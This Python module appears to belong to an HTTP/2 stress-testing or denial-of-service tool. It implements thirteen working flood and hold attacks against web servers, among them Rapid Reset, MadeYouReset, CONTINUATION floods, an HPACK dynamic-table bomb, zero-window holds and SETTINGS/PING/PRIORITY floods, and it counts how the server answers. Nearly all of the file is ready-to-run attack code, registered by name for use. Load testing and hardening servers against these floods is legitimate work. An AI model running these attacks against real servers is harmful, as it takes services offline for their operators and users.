"""Floods and holds of HTTP/2: what a client that keeps no rule, or keeps all of them, can ask of a server."""

import struct

import h2.config
import h2.connection
import h2.errors
import h2.settings
import hpack
from hyperframe import frame as frames

from lines import Attack

# Frames made before the next connection has its turn.
BATCH = 200
# Largest payload a server must accept unless it says otherwise (RFC 9113 section 4.2).
FRAME_BYTES = 16384
GOAWAY, RST_STREAM, HEADERS = 7, 3, 1


def raw(kind, flags, stream, payload=b""):
    """Any frame, valid or not."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


class Flood(Attack):
    """An attack over HTTP/2 inside TLS, that counts its frames and how the server answers them."""

    tls = True
    protocols = ("h2",)
    path = "/golden"
    settings = {}

    def start(self, line):
        yield self.opening()
        yield from self.frames(line)

    def opening(self):
        """The preface and SETTINGS, made by h2."""
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.local_settings = h2.settings.Settings(client=True, initial_values=self.settings)
        connection.initiate_connection()
        return connection.data_to_send()

    def block(self, method="GET", extra=()):
        """A field block that does not touch the dynamic table, so that it can be sent again and again."""
        fields = [(":method", method), (":scheme", "https"), (":authority", self.host), (":path", self.path)]
        return hpack.Encoder().encode([(name, value, True) for name, value in [*fields, *extra]])

    def repeated(self, batch):
        """One batch of frames, for ever."""
        data = b"".join(batch)
        while True:
            self.counts["frames sent"] += len(batch)
            yield data

    def received(self, line, data):
        """Counts GOAWAY, RST_STREAM and answers by what they say."""
        data = line.state.get("input", b"") + data
        at = 0
        while len(data) - at >= 9:
            length = int.from_bytes(data[at : at + 3], "big")
            kind = data[at + 3]
            if len(data) - at < 9 + length:
                break
            body = data[at + 9 : at + 9 + length]
            if kind == GOAWAY:
                code = int.from_bytes(body[4:8], "big")
                self.counts[f"GOAWAY {self.error_name(code)}"] += 1
            elif kind == RST_STREAM:
                self.counts[f"RST_STREAM {self.error_name(int.from_bytes(body, 'big'))}"] += 1
            elif kind == HEADERS:
                self.counts["answers"] += 1
            at += 9 + length
        line.state["input"] = data[at:]

    @staticmethod
    def error_name(code):
        try:
            return h2.errors.ErrorCodes(code).name
        except ValueError:
            return str(code)


class RapidReset(Flood):
    def frames(self, line):
        block = self.block()
        stream = 1
        while stream < 2**31 - 2 * BATCH:
            batch = []
            for _ in range(BATCH):
                batch.append(raw(HEADERS, 5, stream, block))
                batch.append(raw(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                stream += 2
            self.counts["frames sent"] += len(batch)
            yield b"".join(batch)


class MadeYouReset(Flood):
    path = "/1m"

    def frames(self, line):
        block = self.block()
        stream = 1
        while stream < 2**31 - 2 * BATCH:
            batch = []
            for _ in range(BATCH):
                batch.append(raw(HEADERS, 5, stream, block))
                # An increment of 0 is a stream error (RFC 9113 section 6.9): the server resets, not the client.
                batch.append(raw(8, 0, stream, b"\0\0\0\0"))
                stream += 2
            self.counts["frames sent"] += len(batch)
            yield b"".join(batch)


class Continuation(Flood):
    def frames(self, line):
        self.counts["frames sent"] += 1
        yield raw(HEADERS, 1, 1, self.block())
        literal = b"\x00\x03x-a\x7f\x81\x7e" + b"a" * 16384
        size = (0, 1, FRAME_BYTES)[line.number % 3]
        yield from self.repeated([raw(9, 0, 1, literal[:size])] * (BATCH if size < 2 else 8))


class SettingsFlood(Flood):
    def frames(self, line):
        entries = struct.pack(">HI", 4, 65535) + struct.pack(">HI", 1, 4096)
        yield from self.repeated([raw(4, 0, 0, entries)] * BATCH)

    def reads(self, line):
        return line.number % 2 == 0


class Ping(Flood):
    def frames(self, line):
        yield from self.repeated([frames.PingFrame(0, opaque_data=b"12345678").serialize()] * BATCH)

    def reads(self, line):
        return line.number % 2 == 0


class Priority(Flood):
    def frames(self, line):
        batch = []
        for number in range(BATCH):
            parent = 2 * (number * 7 % BATCH) + 1001
            frame = frames.PriorityFrame(2 * number + 1, depends_on=parent, stream_weight=number % 256)
            batch.append(frame.serialize())
        yield from self.repeated(batch)


class EmptyData(Flood):
    path = "/upload"
    def frames(self, line):
        self.counts["frames sent"] += 1
        yield raw(HEADERS, 4, 1, self.block("POST"))
        yield from self.repeated([raw(0, 0, 1)] * BATCH)


class WindowUpdate(Flood):
    """One byte of window at a time, so that a server sends its answer one byte per frame."""

    path = "/1m"
    settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}

    def frames(self, line):
        block = self.block()
        streams = range(1, 65, 2)
        yield b"".join(raw(HEADERS, 5, stream, block) for stream in streams)
        batch = [raw(8, 0, stream, b"\0\0\0\1") for stream in streams] * 6
        yield from self.repeated(batch)


class ZeroWindow(Flood):
    connections = 200
    path = "/1m"
    settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}

    def frames(self, line):
        self.counts["frames sent"] += 100
        block = self.block()
        yield b"".join(raw(HEADERS, 5, stream, block) for stream in range(1, 201, 2))


class HpackBomb(Flood):
    def frames(self, line):
        # 62 is the newest entry of the dynamic table (RFC 7541 section 2.3.3): one byte stands for almost 4 KiB.
        first = self.block() + b"\x40\x03x-b" + b"\x7f\xa1\x1e" + b"b" * 4000
        bomb = self.block() + b"\xbe" * 16000
        self.counts["frames sent"] += 1
        yield raw(HEADERS, 5, 1, first)
        for stream in range(3, 2**31 - 1, 2):
            self.counts["frames sent"] += 1
            yield raw(HEADERS, 5, stream, bomb)


class HpackResize(Flood):
    """Empties and fills the dynamic table with every request; as many requests at a time as any server allows."""

    def frames(self, line):
        line.state.update(stream=1, owed=64)
        yield from self.requests(line)

    def requests(self, line):
        fill = b"".join(b"\x40\x04x-%02d\x0a0123456789" % number for number in range(40))
        # Two size updates at the beginning of a block are allowed (RFC 7541 section 4.2): to 0, and back to 4096.
        block = b"\x20\x3f\xe1\x1f" + self.block("HEAD") + fill
        while line.state["owed"]:
            line.state["owed"] -= 1
            self.counts["frames sent"] += 1
            yield raw(HEADERS, 5, line.state["stream"], block)
            line.state["stream"] += 2

    def received(self, line, data):
        before = self.counts["answers"]
        super().received(line, data)
        line.state["owed"] = line.state.get("owed", 0) + self.counts["answers"] - before
        if line.chunks is None and line.state["owed"]:
            line.chunks = self.requests(line)


class SilentBodies(Flood):
    connections = 200
    path = "/upload"

    def frames(self, line):
        block = self.block("POST", [("content-length", "1000000")])
        self.counts["frames sent"] += 100
        yield b"".join(raw(HEADERS, 4, stream, block) for stream in range(1, 201, 2))


class UnknownFrames(Flood):
    def frames(self, line):
        size = 1 if line.number % 2 else 0
        yield from self.repeated([raw(0xFA, 0, 0, b"x" * size)] * BATCH)


ATTACKS = {
    "h2-rapid-reset": RapidReset,
    "h2-made-you-reset": MadeYouReset,
    "h2-continuation": Continuation,
    "h2-settings": SettingsFlood,
    "h2-ping": Ping,
    "h2-priority": Priority,
    "h2-empty-data": EmptyData,
    "h2-window-update": WindowUpdate,
    "h2-zero-window": ZeroWindow,
    "h2-hpack-bomb": HpackBomb,
    "h2-hpack-resize": HpackResize,
    "h2-silent-bodies": SilentBodies,
    "h2-unknown-frames": UnknownFrames,
}
